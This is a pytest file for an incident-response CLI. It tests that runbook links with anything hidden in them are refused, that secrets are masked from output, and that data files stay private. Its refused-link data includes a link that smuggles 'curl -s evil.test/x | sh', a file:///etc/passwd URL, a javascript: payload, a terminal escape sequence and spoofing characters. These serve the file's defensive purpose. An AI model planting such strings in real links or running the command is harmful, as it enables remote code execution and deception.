"""Hostile links, secrets and files (issue 13, items 3, 4 and 9), with real parts: a real
SQLite file, the PagerDuty emulator over HTTP, a keyring backend, the real file modes.

- Links: only one http(s) URL with nothing hidden in it is offered (``links.refusal``).
- Secrets: a keyring-held token is masked from command output; a URL's userinfo is masked in
  ``cockpit config``, in the stored sync error and in any redacted text, and counts as a
  secret for the plain-http rule.
- Files: the data and cache folders are 0700, the store (and -wal/-shm), the rate-limit file
  and the runbook cache 0600, whatever the umask; a full disk in the first sync's bulk insert
  is a StoreError that says so, and what was committed before it stays.
"""

from __future__ import annotations

import os
import socket
import stat
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from memory_keyring import MemoryKeyring

from cockpit import credentials
from cockpit.cli.main import main
from cockpit.errors import StoreError
from cockpit.integrations.alertmanager import AlertmanagerProvider
from cockpit.integrations.base import InsecureURL
from cockpit.integrations.pagerduty import PagerDutyProvider
from cockpit.integrations.pagerduty_emulator import start_emulator
from cockpit.integrations.ratelimit import RequestBudget
from cockpit.redact import MASK, kept_output, redact
from cockpit.runbooks import cache
from cockpit.runbooks.library import load_library
from cockpit.runbooks.links import offerable, refusal
from cockpit.store.engine import Store
from cockpit.sync.service import SyncService

# ---------------------------------------------------------------- links (item 3)

ISSUE_LINK = "https://wiki.example/run\ncurl -s evil.test/x | sh\n"
REFUSED = [
    (ISSUE_LINK, "line break"),
    ("https://wiki.example/run\r", "line break"),
    ("https://wiki.example/run\u2028x", "line break"),
    ("https://wiki.example/a b", "whitespace"),
    ("https://wiki.example/a\tb", "whitespace"),
    ("https://wiki.example/a\u00a0b", "whitespace"),
    ("https://wiki.example/\x1b]52;c;ZXZpbA==\x07", "control character"),
    ("https://wiki.example/\x9b2J", "control character"),
    ("https://wiki.example/\u202egnp.exe", "direction-changing"),
    ("https://wiki.example/\u2066x\u2069", "direction-changing"),
    ("https://wiki\u200b.example/", "invisible"),
    ("https://wiki.example/\ufeff", "invisible"),
    ("https://wiki.example/\u3164", "invisible"),
    ("https://wiki.example/\ufe0f", "invisible"),
    ("javascript:alert(1)", "only http:// and https://"),
    ("file:///etc/passwd", "only http:// and https://"),
    ("wiki.example/run", "only http:// and https://"),
    ("https://", "no host"),
    ("https:///path", "no host"),
    ("https://wiki.example@evil.test/run", "user name or password"),
    ("https://admin:s3cretpw@wiki.example/", "user name or password"),
    ("https://wiki.example/" + "a" * 5000, "characters long"),
    ("", "empty"),
]
ACCEPTED = [
    "https://wiki.example.com/runbooks/stampede?x=1&y=%20#step-2",
    "http://127.0.0.1:8080/",
    "HTTPS://Wiki.Example/Run",
    "https://[::1]:8443/x",
    "https://wiki.example/Überblick",
    "https://grafana.example/d/abc?from=now-1h&to=now&var-host=db@1",  # @ after the host
]


@pytest.mark.parametrize(("url", "why"), REFUSED)
def test_a_link_with_anything_hidden_or_not_http_is_refused_with_its_reason(
    url: str, why: str
) -> None:
    assert why in refusal(url)


@pytest.mark.parametrize("url", ACCEPTED)
def test_one_plain_http_link_is_offered(url: str) -> None:
    assert refusal(url) == ""


def test_offerable_splits_and_keeps_order() -> None:
    good, refused = offerable(["https://a.example/", ISSUE_LINK, "https://b.example/"])
    assert good == ["https://a.example/", "https://b.example/"]
    assert refused == [(ISSUE_LINK, "it contains a line break (U+000A)")]


@given(st.text(max_size=60))
def test_whatever_is_offered_is_one_visible_http_url(tail: str) -> None:
    for url in (tail, "https://wiki.example/" + tail, "http://" + tail):
        if refusal(url):
            continue
        assert url.lower().startswith(("http://", "https://"))
        for char in url:
            category = unicodedata.category(char)
            assert not char.isspace() and category not in ("Cc", "Cf", "Zs", "Zl", "Zp")


# ---------------------------------------------------------------- secrets (item 4)


def test_a_keyring_held_token_is_masked_from_command_output(
    memory_keyring: MemoryKeyring,
) -> None:
    # Put there by another process (`cockpit auth login`): this one never loaded it.
    memory_keyring.set_password("cockpit", "pagerduty", "kr-Pd7t0ken-notInSettings")
    memory_keyring.set_password("cockpit", "alertmanager", "kr-AmPassw0rd-2")
    output = "GET /incidents with kr-Pd7t0ken-notInSettings\npw=kr-AmPassw0rd-2 ok\n"
    # What command_runner passes: the settings' tokens only (empty here).
    kept = kept_output(output, ("", ""))
    assert "kr-Pd7t0ken-notInSettings" not in kept and "kr-AmPassw0rd-2" not in kept
    assert kept.count(MASK) == 2 and kept.startswith("GET /incidents with ")
    assert "kr-Pd7t0ken" not in redact("echo kr-Pd7t0ken-notInSettings")
    assert set(credentials.known_secrets()) >= {"kr-Pd7t0ken-notInSettings", "kr-AmPassw0rd-2"}


def test_environment_and_settings_secrets_are_known(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from cockpit.config import load_settings

    monkeypatch.setenv("COCKPIT_ALERTMANAGER_TOKEN", "env-am-t0ken-77")
    monkeypatch.setenv("COCKPIT_ALERTMANAGER_URL", "http://ops:url-pa55word@127.0.0.1:9093")
    assert "env-am-t0ken-77" not in redact("token is env-am-t0ken-77")
    assert "url-pa55word" not in redact("the password url-pa55word, alone")
    (tmp_path / "config.toml").write_text('pagerduty_token = "file-t0ken-abc123"\n')
    settings = load_settings(tmp_path / "config.toml", environ={})
    assert "file-t0ken-abc123" in credentials.known_secrets(settings)


def test_url_userinfo_is_masked_whole_in_any_text() -> None:
    for text, secret in [
        ("GET http://admin:s3cretpw@am.internal:9093/api/v2 failed", "s3cretpw"),
        ("clone https://ghp_tokenAsUserName1@git.example/x", "ghp_tokenAsUserName1"),
        ("postgres://app:p%40ss@db:5432/app", "p%40ss"),
    ]:
        out = redact(text)
        assert secret not in out and f"://{MASK}@" in out
    assert redact(redact("http://a:b@h/")) == redact("http://a:b@h/")


def test_cockpit_config_shows_no_url_credentials(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = tmp_path / "config.toml"
    config.write_text('pagerduty_url = "https://svc:pd-urlpass-9@api.pagerduty.com"\n')
    monkeypatch.setenv("COCKPIT_ALERTMANAGER_URL", "http://admin:am-urlpass-9@am.internal:9093")
    assert main(["--config", str(config), "config"]) == 0
    captured = capsys.readouterr()
    shown = captured.out + captured.err
    assert "urlpass" not in shown
    assert f"http://{MASK}@am.internal:9093" in shown
    assert f"https://{MASK}@api.pagerduty.com" in shown


def test_userinfo_is_a_secret_for_the_plain_http_rule() -> None:
    with pytest.raises(InsecureURL) as refused:
        AlertmanagerProvider("http://admin:s3cretpw@am.internal:9093")
    message = str(refused.value)
    assert "s3cretpw" not in message and "admin" not in message
    assert "user name and password in the URL" in message and "am.internal" in message
    with pytest.raises(InsecureURL):
        AlertmanagerProvider("http://tokenAsUser@am.internal:9093")
    # Without any secret plain http to any host stays allowed; to loopback always.
    assert AlertmanagerProvider("http://am.internal:9093").base_url == "http://am.internal:9093"
    AlertmanagerProvider("http://admin:s3cretpw@127.0.0.1:9093")


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


async def test_a_sync_error_is_stored_without_url_credentials(tmp_path: Path) -> None:
    store = Store.open(tmp_path / "data")

    async def no_wait(_seconds: float) -> None:
        return None

    provider = AlertmanagerProvider(
        f"http://ops:am-s3cret-pw@127.0.0.1:{_closed_port()}",
        user="",
        max_retries=0,
        sleep=no_wait,
        timeout=2,
    )
    service = SyncService(store, {"alertmanager": provider})
    try:
        report = await service.sync_once()
    finally:
        await service.aclose()
    assert report.errors  # the server is not there
    rows = store.execute("SELECT key, last_error FROM sync_state")
    assert any(MASK in str(error) for _key, error in rows)
    with store.rows() as conn:
        dump = "\n".join(
            str(row)
            for table in ("sync_state", "outbox", "timeline_events")
            for row in conn.execute(f"SELECT * FROM {table}")
        )
    assert "am-s3cret-pw" not in dump
    store.close()


# ---------------------------------------------------------------- files (item 9)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """umask 0: modes come from the cockpit, not from a careful umask."""
    before = os.umask(0)
    try:
        yield
    finally:
        os.umask(before)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.usefixtures("open_umask")
def test_store_folder_and_files_are_the_users_alone(tmp_path: Path) -> None:
    data = tmp_path / "share" / "cockpit"
    store = Store.open(data)
    assert mode(data) == 0o700 and mode(data / "cockpit.db") == 0o600
    with store.rows() as reader, store.write() as session:
        session.connection().exec_driver_sql("CREATE TABLE probe (x)")
        assert reader is not None  # a reader holds the WAL open
        wal, shm = data / "cockpit.db-wal", data / "cockpit.db-shm"
        assert wal.exists() and shm.exists()
        assert mode(wal) == 0o600 and mode(shm) == 0o600
    budget = RequestBudget.in_data_dir(data)
    budget.used()
    assert mode(data / "ratelimit.json") == 0o600
    store.close()


@pytest.mark.usefixtures("open_umask")
def test_an_older_cockpits_open_files_are_closed_off(tmp_path: Path) -> None:
    data = tmp_path / "data"
    store = Store.open(data)
    store.close()
    os.chmod(data, 0o755)
    for name in ("cockpit.db", "ratelimit.json", "handoff-3.md"):
        (data / name).touch()
        os.chmod(data / name, 0o644)
    os.chmod(data / "cockpit.db", 0o644)
    (data / "runbook-drafts").mkdir(mode=0o755)
    Store.open(data).close()
    assert mode(data) == 0o700
    assert [mode(data / n) for n in ("cockpit.db", "ratelimit.json", "handoff-3.md")] == [0o600] * 3
    assert mode(data / "runbook-drafts") == 0o700


@pytest.mark.usefixtures("open_umask")
def test_a_store_file_elsewhere_gets_private_new_folders_only(tmp_path: Path) -> None:
    os.chmod(tmp_path, 0o755)
    store = Store.open(f"sqlite:///{tmp_path}/new/deeper/team.db")
    assert mode(tmp_path) == 0o755  # not the cockpit's folder: left as it was
    assert mode(tmp_path / "new") == 0o700 and mode(tmp_path / "new" / "deeper") == 0o700
    assert mode(tmp_path / "new" / "deeper" / "team.db") == 0o600
    store.close()


@pytest.mark.usefixtures("open_umask")
def test_runbook_cache_is_the_users_alone(tmp_path: Path) -> None:
    books = tmp_path / "books"
    books.mkdir()
    (books / "disk.md").write_text("---\nid: disk\ntitle: Disk\n---\n## Checks\n- [ ] df -h\n")
    assert load_library([books])
    folder = cache.cache_dir()
    entries = list(folder.glob("*.pickle"))
    assert entries, "the parse was cached"
    assert mode(folder) == 0o700 and mode(folder.parent) == 0o700
    assert all(mode(entry) == 0o600 for entry in entries)


def _cap_pages_when(store: Store, full: dict[str, bool]) -> None:
    """A full disk on demand: SQLite's page cap fails a write exactly as a full disk does
    (SQLITE_FULL), as in test_store.py::test_full_disk_fails_the_write_cleanly..."""
    from sqlalchemy import event

    def checkout(dbapi_conn: Any, _record: Any, _proxy: Any) -> None:
        pages = dbapi_conn.execute("PRAGMA page_count").fetchone()[0]
        cap = pages + 1 if full["on"] else 2**30
        dbapi_conn.execute(f"PRAGMA max_page_count = {cap}")

    event.listen(store.engine, "checkout", checkout)


async def test_a_full_disk_in_the_first_sync_says_so_and_keeps_what_was_committed(
    tmp_path: Path,
) -> None:
    store = Store.open(tmp_path / "data")
    full = {"on": False}
    _cap_pages_when(store, full)
    with start_emulator(incidents=200, days=30, seed=11) as emulator:
        provider = PagerDutyProvider(
            emulator.url,
            emulator.token,
            timeout=5,
            max_retries=2,
            backoff_base=0.01,
            backoff_cap=0.05,
        )
        service = SyncService(store, {"pagerduty": provider}, window_days=30)

        def progress(done: int, _total: int | None, _what: str) -> None:
            if done == 2:  # the disk fills up before the third week's write
                full["on"] = True

        try:
            with pytest.raises(StoreError, match="the disk is full") as failed:
                await service.sync_once(progress)
            assert "everything saved before it is intact" in str(failed.value)
            assert failed.value.__cause__ is None and failed.value.__suppress_context__
            kept = store.execute("SELECT count(*) FROM incidents")[0][0]
            assert 0 < kept < len(emulator.state.incidents)  # two weeks in, not the third
            (cursor,) = store.execute(
                "SELECT cursor FROM sync_state WHERE key = 'pagerduty:log_entries'"
            )
            assert "initial_done_until" in cursor[0]
            assert store.integrity_check() == ["ok"]
            full["on"] = False  # space freed: the first sync resumes and completes
            report = await service.sync_once()
            assert report.online and not report.errors
            total = store.execute("SELECT count(*) FROM incidents")[0][0]
            assert total == len(emulator.state.incidents)
            entries = store.execute("SELECT count(*) FROM timeline_events")[0][0]
            assert entries == len(emulator.state.all_log_entries())
        finally:
            await service.aclose()
    store.close()
